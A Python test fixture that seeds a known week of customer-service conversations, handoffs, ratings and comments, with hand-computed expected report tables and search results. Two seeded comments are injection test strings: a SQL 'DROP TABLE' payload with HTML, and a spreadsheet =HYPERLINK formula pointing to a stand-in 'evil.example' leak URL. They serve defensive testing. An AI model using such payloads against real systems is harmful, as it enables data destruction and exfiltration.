"""A known week of service, written straight into the hub's tables, and its figures worked out by hand.

The week is 2025-05-05 (Mon) to 2025-05-11 (Sun), UTC. `seed_history(engine)` writes it; `EXPECTED` holds every
table of `bot.core.service_report` for that week as literal numbers, each with the arithmetic behind it, so the tests
compare the report with a hand count and not with a second run of the same SQL. Agent and conversation ids only
exist once seeded, so `EXPECTED` names them (`Agent("ada")`, `Conv("c03")`) and `expected(name, history)` fills
them in.

What is in the week (c = a conversation; each writes a customer message unless said otherwise):
  05-05  c01 bot only (greet, track_order), rated 5 "Quick and easy", NPS 10
         c02 handed off (requested) to Ada: wait 60 s, first reply 90 s, resolve 600 s; rated 4, NPS 9
         c03 handed off (emotional) to Ada: 120 / 180 / 900 s; rated 2 (HTML/SQL-looking comment), NPS 3
  05-06  c04 handed off (complex) to Ben: 300 / 420 / 1800 s; rated 5 "100% happy", NPS 8 (telegram)
         c05 handed off (not_understood) to Ben: 600 / 725 s, never resolved
         c06 handed off (emotional), never claimed
         cE  no customer message (only the bot's greeting, so no intent either): never counts
  05-07  nothing
  05-08  c07 handed off twice (not_understood both times): to Ada 240 / 300 / 1200 s, rated 5 with an empty
             comment; then to Ben 30 / 60 / 300 s, rated 3 ("=HYPERLINK(...)"), NPS 6 "so-so"
         c08 bot only (check_refund_policy, thank), rated 3 "I waited 100 minutes", NPS 7
  05-09  c09 bot only (greet, delivery_options), no feedback
         c10 bot only (track_order, goodbye), rated 4 "The order id box", NPS 10 "Love the SHOP" (telegram)
  05-10  nothing
  05-11  c11 bot only (get_refund), rated 1 "My order_id was lost" at 23:59:59
Just outside: c00 (05-04 23:50, handed to Ada, rated 1) and c99 (05-12 00:00, handed to Ben, rated 1, NPS 0).
Accounts: Ada and Ben (agents), Cleo (an agent with no activity), Tess (a trainer), Dan (an agent who left).
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
import uuid
from typing import Any

from sqlalchemy import insert
from sqlalchemy.engine import Engine

from bot.store import schema as t

SINCE, UNTIL = "2025-05-05", "2025-05-11"

HOSTILE = "<b>bad</b>'; DROP TABLE hub_ratings;--"
FORMULA = '=HYPERLINK("http://evil.example/?leak","click me")'

ACCOUNTS = {  # key: (display name, role, active)
    "ada": ("Ada (history agent)", "agent", True),
    "ben": ("Ben (history agent)", "agent", True),
    "cleo": ("Cleo (idle agent)", "agent", True),
    "tess": ("Tess (history trainer)", "trainer", True),
    "dan": ("Dan (left the team)", "agent", False),
}


@dataclasses.dataclass(frozen=True)
class Handoff:
    reason: str
    agent: str | None
    requested: str
    wait: float | None = None
    """Seconds from the request to the claim; `reply` and `resolve` are counted from the request too."""
    reply: float | None = None
    resolve: float | None = None


@dataclasses.dataclass(frozen=True)
class Feedback:
    score: int
    at: str
    comment: str | None = None
    handoff: int | None = None
    """Index of the conversation's handoff it followed (credited to that handoff's agent); None: the bot."""


@dataclasses.dataclass(frozen=True)
class Conversation:
    key: str
    started: str
    intents: tuple[str, ...] = ()
    handoffs: tuple[Handoff, ...] = ()
    ratings: tuple[Feedback, ...] = ()
    nps: tuple[Feedback, ...] = ()
    channel: str = "web"
    customer_wrote: bool = True


HISTORY = (
    Conversation(
        "c00",
        "2025-05-04 23:50:00",
        intents=("contact_human_agent",),
        handoffs=(Handoff("requested", "ada", "2025-05-04 23:51:00", wait=10, reply=20, resolve=400),),
        ratings=(Feedback(1, "2025-05-04 23:59:59", "outside, before: the agent was rude", handoff=0),),
    ),
    Conversation(
        "c01",
        "2025-05-05 09:00:00",
        intents=("greet", "track_order"),
        ratings=(Feedback(5, "2025-05-05 09:10:00", "Quick and easy, thanks!"),),
        nps=(Feedback(10, "2025-05-05 09:10:30"),),
    ),
    Conversation(
        "c02",
        "2025-05-05 10:00:00",
        intents=("greet", "contact_human_agent"),
        handoffs=(Handoff("requested", "ada", "2025-05-05 10:02:00", wait=60, reply=90, resolve=600),),
        ratings=(Feedback(4, "2025-05-05 10:13:00", "Ada was very helpful", handoff=0),),
        nps=(Feedback(9, "2025-05-05 10:13:30", handoff=0),),
    ),
    Conversation(
        "c03",
        "2025-05-05 14:00:00",
        intents=("complaint", "get_refund"),
        handoffs=(Handoff("emotional", "ada", "2025-05-05 14:01:00", wait=120, reply=180, resolve=900),),
        ratings=(Feedback(2, "2025-05-05 14:18:00", HOSTILE, handoff=0),),
        nps=(Feedback(3, "2025-05-05 14:18:30", "Never again", handoff=0),),
    ),
    Conversation(
        "c04",
        "2025-05-06 09:30:00",
        channel="telegram",
        intents=("change_order",),
        handoffs=(Handoff("complex", "ben", "2025-05-06 09:31:00", wait=300, reply=420, resolve=1800),),
        ratings=(Feedback(5, "2025-05-06 10:03:00", "Ben sorted it: 100% happy", handoff=0),),
        nps=(Feedback(8, "2025-05-06 10:03:30", handoff=0),),
    ),
    Conversation(
        "c05",
        "2025-05-06 11:00:00",
        intents=("track_order",),
        handoffs=(Handoff("not_understood", "ben", "2025-05-06 11:02:00", wait=600, reply=725),),
    ),
    Conversation("cE", "2025-05-06 12:00:00", customer_wrote=False),
    Conversation(
        "c06",
        "2025-05-06 15:00:00",
        intents=("complaint",),
        handoffs=(Handoff("emotional", None, "2025-05-06 15:01:00"),),
    ),
    Conversation(
        "c07",
        "2025-05-08 10:00:00",
        intents=("greet", "track_order", "contact_human_agent"),
        handoffs=(
            Handoff("not_understood", "ada", "2025-05-08 10:01:00", wait=240, reply=300, resolve=1200),
            Handoff("not_understood", "ben", "2025-05-08 11:00:00", wait=30, reply=60, resolve=300),
        ),
        ratings=(
            Feedback(5, "2025-05-08 10:22:00", "", handoff=0),
            Feedback(3, "2025-05-08 11:06:00", FORMULA, handoff=1),
        ),
        nps=(Feedback(6, "2025-05-08 11:06:30", "so-so, the agent was slow", handoff=1),),
    ),
    Conversation(
        "c08",
        "2025-05-08 16:00:00",
        intents=("check_refund_policy", "thank"),
        ratings=(Feedback(3, "2025-05-08 16:10:00", "I waited 100 minutes for an answer"),),
        nps=(Feedback(7, "2025-05-08 16:10:30"),),
    ),
    Conversation("c09", "2025-05-09 08:00:00", intents=("greet", "delivery_options")),
    Conversation(
        "c10",
        "2025-05-09 13:00:00",
        channel="telegram",
        intents=("track_order", "goodbye"),
        ratings=(Feedback(4, "2025-05-09 13:05:00", "The order id box is confusing"),),
        nps=(Feedback(10, "2025-05-09 13:05:30", "Love the SHOP"),),
    ),
    Conversation(
        "c11",
        "2025-05-11 23:50:00",
        intents=("get_refund",),
        ratings=(Feedback(1, "2025-05-11 23:59:59", "My order_id was lost"),),
    ),
    Conversation(
        "c99",
        "2025-05-12 00:00:00",
        intents=("track_order",),
        handoffs=(Handoff("requested", "ben", "2025-05-12 00:01:00", wait=5, reply=10, resolve=100),),
        ratings=(Feedback(1, "2025-05-12 00:05:00", "outside, after: the agent never came", handoff=0),),
        nps=(Feedback(0, "2025-05-12 00:05:30", "outside, after: no agent", handoff=0),),
    ),
)


@dataclasses.dataclass(frozen=True)
class Agent:
    """An agent's id in `EXPECTED`, known once the history is seeded."""

    key: str


@dataclasses.dataclass(frozen=True)
class Conv:
    """A conversation's id in `EXPECTED`, known once the history is seeded."""

    key: str


@dataclasses.dataclass(frozen=True)
class SeededHistory:
    agent_ids: dict[str, int]
    conversation_ids: dict[str, str]

    def resolve(self, value: Any) -> Any:
        if isinstance(value, Agent):
            return self.agent_ids[value.key]
        if isinstance(value, Conv):
            return self.conversation_ids[value.key]
        return value


def seed_history(engine: Engine, tag: str | None = None) -> SeededHistory:
    """Write the week into a database that has the hub's schema. `tag` keeps usernames and conversation ids
    unique in a database that already has rows (a running hub's)."""
    tag = tag or uuid.uuid4().hex[:8]
    agent_ids: dict[str, int] = {}
    conversation_ids: dict[str, str] = {}
    with engine.begin() as conn:
        for key, (name, role, active) in ACCOUNTS.items():
            agent_ids[key] = conn.execute(
                insert(t.agents).values(
                    username=f"history.{key}.{tag}",
                    display_name=name,
                    password_hash="not-a-password",
                    role=role,
                    capacity=3,
                    active=active,
                    created_at=_at("2025-05-01 08:00:00"),
                )
            ).inserted_primary_key[0]
        for conversation in HISTORY:
            conversation_id = f"history-{tag}-{conversation.key}"
            conversation_ids[conversation.key] = conversation_id
            _seed_conversation(conn, conversation, conversation_id, agent_ids)
    return SeededHistory(agent_ids, conversation_ids)


def _seed_conversation(conn: Any, c: Conversation, conversation_id: str, agent_ids: dict[str, int]) -> None:
    started = _at(c.started)
    customer_id = f"{conversation_id}-customer"
    conn.execute(
        insert(t.customers).values(
            id=customer_id, channel=c.channel, external_id=conversation_id, display_name=None, created_at=started
        )
    )
    conn.execute(
        insert(t.conversations).values(
            id=conversation_id,
            customer_id=customer_id,
            channel=c.channel,
            state="bot",  # what the hub shows now; the report never reads it
            created_at=started,
            updated_at=started,
        )
    )
    second = dt.timedelta(seconds=1)
    if c.customer_wrote:
        _message(conn, conversation_id, "customer", "Hello, I need help", started + 5 * second)
    _message(conn, conversation_id, "bot", "Hi! How can I help?", started + 6 * second)
    for intent in c.intents:
        conn.execute(
            insert(t.conversation_intents).values(
                conversation_id=conversation_id, intent=intent, first_seen_at=started + 5 * second
            )
        )
    handoff_ids = []
    for handoff in c.handoffs:
        requested = _at(handoff.requested)
        agent_id = agent_ids[handoff.agent] if handoff.agent else None

        def later(seconds: float | None, requested: dt.datetime = requested) -> dt.datetime | None:
            return None if seconds is None else requested + dt.timedelta(seconds=seconds)

        handoff_ids.append(
            conn.execute(
                insert(t.handoffs).values(
                    conversation_id=conversation_id,
                    reason=handoff.reason,
                    priority="normal",
                    summary=f"{handoff.reason} handoff",
                    packet=json.dumps({"reason": handoff.reason}),
                    source="bot",
                    requested_at=requested,
                    agent_id=agent_id,
                    claimed_at=later(handoff.wait),
                    first_reply_at=later(handoff.reply),
                    resolved_at=later(handoff.resolve),
                )
            ).inserted_primary_key[0]
        )
        if handoff.reply is not None:
            _message(conn, conversation_id, "agent", "Let me look into it.", later(handoff.reply), agent_id)
    for table, answers in ((t.ratings, c.ratings), (t.nps_scores, c.nps)):
        for answer in answers:
            handoff = c.handoffs[answer.handoff] if answer.handoff is not None else None
            conn.execute(
                insert(table).values(
                    conversation_id=conversation_id,
                    handoff_id=handoff_ids[answer.handoff] if answer.handoff is not None else None,
                    agent_id=agent_ids[handoff.agent] if handoff and handoff.agent else None,
                    score=answer.score,
                    comment=answer.comment,
                    created_at=_at(answer.at),
                )
            )


def _message(
    conn: Any, conversation_id: str, sender: str, text: str, at: dt.datetime | None, agent_id: int | None = None
) -> None:
    conn.execute(
        insert(t.messages).values(
            conversation_id=conversation_id, sender=sender, agent_id=agent_id, text=text, created_at=at
        )
    )


def _at(text: str) -> dt.datetime:
    return dt.datetime.fromisoformat(text)


ADA, BEN, CLEO = "Ada (history agent)", "Ben (history agent)", "Cleo (idle agent)"


def _times(measure: str, key: str, count: int, median: float | None, p90: float | None) -> dict[str, Any]:
    return {"measure": measure, "key": key, "count": count, "median_seconds": median, "p90_seconds": p90}


def _day(
    day: str, conversations: int, handed_off: int, rate: float | None, ratings: int, csat: float | None, average: Any
) -> dict[str, Any]:
    return {
        "day": day,
        "conversations": conversations,
        "handed_off": handed_off,
        "handoff_rate": rate,
        "ratings": ratings,
        "csat": csat,
        "average": average,
    }


def _comment(
    at: str, question: str, score: int, agent: str | None, conversation: str, channel: str, comment: str
) -> dict[str, Any]:
    return {
        "at": at,
        "question": question,
        "score": score,
        "credited_to": ACCOUNTS[agent][0] if agent else "Bot",
        "agent_id": Agent(agent) if agent else None,
        "conversation_id": Conv(conversation),
        "channel": channel,
        "comment": comment,
    }


# Counted by hand from HISTORY. In the week: 11 conversations in which the customer wrote (c01-c11; cE has no
# customer message, c00 and c99 fall outside), 6 of them handed off (c02 c03 c04 c05 c06 c07).
EXPECTED: dict[str, list[dict[str, Any]]] = {
    "satisfaction": [
        {
            "credited_to": "Bot",
            "agent_id": None,
            "ratings": 4,  # c01 5, c08 3, c10 4, c11 1 (c99's 1 is the day after)
            "satisfied": 2,  # 5 and 4
            "csat": 0.5,  # 2 / 4
            "average": 3.25,  # (5 + 3 + 4 + 1) / 4 = 13 / 4
            "nps_answers": 3,  # c01 10, c08 7, c10 10
            "promoters": 2,  # the two 10s
            "detractors": 0,
            "nps": 66.7,  # 100 * (2 - 0) / 3 = 66.67
        },
        {
            "credited_to": ADA,
            "agent_id": Agent("ada"),
            "ratings": 3,  # c02 4, c03 2, c07 5 (c00's 1 is the day before)
            "satisfied": 2,  # 4 and 5
            "csat": 0.6667,  # 2 / 3
            "average": 3.67,  # (4 + 2 + 5) / 3 = 11 / 3
            "nps_answers": 2,  # c02 9, c03 3
            "promoters": 1,
            "detractors": 1,
            "nps": 0.0,  # 100 * (1 - 1) / 2
        },
        {
            "credited_to": BEN,
            "agent_id": Agent("ben"),
            "ratings": 2,  # c04 5, c07 (second handoff) 3; c99's 1 is after the week
            "satisfied": 1,
            "csat": 0.5,  # 1 / 2
            "average": 4.0,  # (5 + 3) / 2
            "nps_answers": 2,  # c04 8 (passive), c07 6 (detractor); c99's 0 is after
            "promoters": 0,
            "detractors": 1,
            "nps": -50.0,  # 100 * (0 - 1) / 2
        },
        # Cleo has neither ratings nor NPS answers: no row.
    ],
    "containment": [
        {
            "conversations": 11,
            "contained": 5,  # c01 c08 c09 c10 c11
            "handed_off": 6,
            "containment": 0.4545,  # 5 / 11 = 0.45454
            "handoff_rate": 0.5455,  # 6 / 11 = 0.54545
        }
    ],
    "handoff_reasons": [  # most handoffs first, then by name; rate = conversations / 11
        {"reason": "not_understood", "handoffs": 3, "conversations": 2, "rate": 0.1818},  # c05, c07 twice; 2/11
        {"reason": "emotional", "handoffs": 2, "conversations": 2, "rate": 0.1818},  # c03, c06
        {"reason": "complex", "handoffs": 1, "conversations": 1, "rate": 0.0909},  # c04; 1/11
        {"reason": "requested", "handoffs": 1, "conversations": 1, "rate": 0.0909},  # c02 (c00's is outside)
    ],
    "handoff_intents": [  # most handed off first, then most conversations, then name; greet/thank/goodbye left out
        {"intent": "track_order", "conversations": 4, "handed_off": 2, "rate": 0.5},  # c01 c05 c07 c10 (not c99)
        {"intent": "complaint", "conversations": 2, "handed_off": 2, "rate": 1.0},  # c03 c06
        {"intent": "contact_human_agent", "conversations": 2, "handed_off": 2, "rate": 1.0},  # c02 c07 (not c00)
        {"intent": "get_refund", "conversations": 2, "handed_off": 1, "rate": 0.5},  # c03 handed, c11 not
        {"intent": "change_order", "conversations": 1, "handed_off": 1, "rate": 1.0},  # c04
        {"intent": "check_refund_policy", "conversations": 1, "handed_off": 0, "rate": 0.0},  # c08
        {"intent": "delivery_options", "conversations": 1, "handed_off": 0, "rate": 0.0},  # c09
    ],
    "response_times": [
        # waits 60 120 300 600 (never claimed: c06) 240 30 -> sorted 30 60 120 240 300 600, n = 6; median at
        # rank 0.5 * 5 = 2.5 -> 120 + 0.5 * (240 - 120) = 180; p90 at 0.9 * 5 = 4.5 -> 300 + 0.5 * (600 - 300) = 450
        _times("Waiting in the queue", "queue_wait", 6, 180.0, 450.0),
        # first replies 90 180 420 725 300 60 -> sorted 60 90 180 300 420 725
        # median 180 + 0.5 * (300 - 180) = 240; p90 420 + 0.5 * (725 - 420) = 572.5
        _times("Time to first agent reply", "first_reply", 6, 240.0, 572.5),
        # resolves 600 900 1800 (c05 never) 1200 300 -> sorted 300 600 900 1200 1800, n = 5
        # median at rank 0.5 * 4 = 2 -> 900; p90 at 0.9 * 4 = 3.6 -> 1200 + 0.6 * (1800 - 1200) = 1560
        _times("Time to resolve", "resolve", 5, 900.0, 1560.0),
    ],
    "agents": [  # most conversations first, then by name; active agents and supervisors, not Tess (trainer) or Dan
        {
            "agent": ADA,
            "agent_id": Agent("ada"),
            "conversations": 3,  # c02 c03 c07 (c00's handoff was asked the day before)
            "resolved": 3,
            "first_reply_median_seconds": 180.0,  # 90 180 300
            "resolve_median_seconds": 900.0,  # 600 900 1200
        },
        {
            "agent": BEN,
            "agent_id": Agent("ben"),
            "conversations": 3,  # c04 c05 c07 (c99's handoff is after the week)
            "resolved": 2,  # c05 never was
            "first_reply_median_seconds": 420.0,  # 60 420 725
            "resolve_median_seconds": 1050.0,  # 300 1800 -> 300 + 0.5 * 1500
        },
        {
            "agent": CLEO,
            "agent_id": Agent("cleo"),
            "conversations": 0,
            "resolved": 0,
            "first_reply_median_seconds": None,
            "resolve_median_seconds": None,
        },
    ],
    "daily": [
        #     day           conversations, handed off, handoff rate, ratings, CSAT, average
        _day("2025-05-05", 3, 2, 0.6667, 3, 0.6667, 3.67),  # c01 c02 c03, handed c02 c03; rated 5 4 2: 2 of 3, 11/3
        _day("2025-05-06", 3, 3, 1.0, 1, 1.0, 5.0),  # c04 c05 c06 all handed (cE: no customer message); rated 5
        _day("2025-05-07", 0, 0, None, 0, None, None),
        _day("2025-05-08", 2, 1, 0.5, 3, 0.3333, 3.67),  # c07 handed, c08 not; rated 5 3 3: 1 of 3, 11/3
        _day("2025-05-09", 2, 0, 0.0, 1, 1.0, 4.0),  # c09 c10 by the bot; rated 4
        _day("2025-05-10", 0, 0, None, 0, None, None),
        _day("2025-05-11", 1, 0, 0.0, 1, 0.0, 1.0),  # c11; rated 1 at 23:59:59
    ],
    "comments": [  # newest first; c07's empty comment and answers without one are left out, so are c00 and c99
        #         at                question score credited  conversation channel  comment
        _comment("2025-05-11T23:59:59Z", "csat", 1, None, "c11", "web", "My order_id was lost"),
        _comment("2025-05-09T13:05:30Z", "nps", 10, None, "c10", "telegram", "Love the SHOP"),
        _comment("2025-05-09T13:05:00Z", "csat", 4, None, "c10", "telegram", "The order id box is confusing"),
        _comment("2025-05-08T16:10:00Z", "csat", 3, None, "c08", "web", "I waited 100 minutes for an answer"),
        _comment("2025-05-08T11:06:30Z", "nps", 6, "ben", "c07", "web", "so-so, the agent was slow"),
        _comment("2025-05-08T11:06:00Z", "csat", 3, "ben", "c07", "web", FORMULA),
        _comment("2025-05-06T10:03:00Z", "csat", 5, "ben", "c04", "telegram", "Ben sorted it: 100% happy"),
        _comment("2025-05-05T14:18:30Z", "nps", 3, "ada", "c03", "web", "Never again"),
        _comment("2025-05-05T14:18:00Z", "csat", 2, "ada", "c03", "web", HOSTILE),
        _comment("2025-05-05T10:13:00Z", "csat", 4, "ada", "c02", "web", "Ada was very helpful"),
        _comment("2025-05-05T09:10:00Z", "csat", 5, None, "c01", "web", "Quick and easy, thanks!"),
    ],
}
"""Every table's rows for SINCE..UNTIL, in the report's order."""

SEARCHES = {
    # search -> the comments it finds, newest first (all words, any case, `%` and `_` as themselves)
    "100%": ["Ben sorted it: 100% happy"],  # not "I waited 100 minutes ..."
    "%": ["Ben sorted it: 100% happy"],
    "order_id": ["My order_id was lost"],  # not "The order id box ..."
    "_": ["My order_id was lost", HOSTILE],  # HOSTILE names hub_ratings
    "LOVE shop": ["Love the SHOP"],
    "agent slow": ["so-so, the agent was slow"],
    "the": ["Love the SHOP", "The order id box is confusing", "so-so, the agent was slow"],
    "drop table": [HOSTILE],
    "hyperlink": [FORMULA],
    "evil.example/?": [FORMULA],  # '/' is the LIKE escape character underneath: still taken as itself
    "outside": [],  # only c00 and c99 say it, outside the week
    "agent rude": [],
}


def expected(name: str, history: SeededHistory) -> list[dict[str, Any]]:
    """`EXPECTED[name]` with the seeded agent and conversation ids filled in."""
    return [{key: history.resolve(value) for key, value in row.items()} for row in EXPECTED[name]]


def expected_tables(history: SeededHistory) -> dict[str, list[dict[str, Any]]]:
    return {name: expected(name, history) for name in EXPECTED}
